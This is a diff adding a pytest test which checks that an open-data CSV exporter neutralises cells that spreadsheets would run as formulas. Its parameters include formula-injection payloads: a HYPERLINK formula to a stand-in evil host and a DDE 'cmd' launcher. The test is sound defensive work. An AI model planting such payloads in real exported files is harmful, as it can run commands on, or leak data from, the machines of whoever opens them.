@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 
+import pytest
 from test_indexno import git
 from test_manifest import commit, publish
 from tinyrepo import BALANCED_LEDGER, SITE_YML, buildable, make_repo
@@ -56,3 +57,21 @@ def test_lists_made_from_rows_are_the_bytes_of_the_whole_list():
         assert json_data == opendata.json_bytes({"title": title, "count": len(entries), "records": entries})
 
     same()
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x","点击查看详情")', "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1"])
+def test_a_text_a_spreadsheet_would_run_as_a_formula_stays_text_in_the_csv(text):
+    """Excel and WPS read a cell starting with = + - @ as a formula; the JSON keeps the text."""
+    import csv as csv_module
+    import io
+
+    from gongkai import opendata
+
+    entry = {key: "" for key, _ in opendata.LIST_COLUMNS} | {"title": text}
+    for data in (opendata.list_csv([entry]), opendata.list_files("清单", opendata.list_rows([entry]))[0],
+                 opendata.csv_bytes(["标题", "金额"], [[text, -5]])):
+        rows = list(csv_module.reader(io.StringIO(data.decode("utf-8-sig"))))
+        cell = rows[1][[k for k, _ in opendata.LIST_COLUMNS].index("title")] if len(rows[1]) > 2 else rows[1][0]
+        assert cell == "'" + text, data
+    assert b"-5" in opendata.csv_bytes(["金额"], [[-5]]) and b"'-5" not in opendata.csv_bytes(["金额"], [["-5"]])
+    assert opendata.list_rows([entry])[0][1] == json.dumps(entry, ensure_ascii=False, separators=(",", ":"))
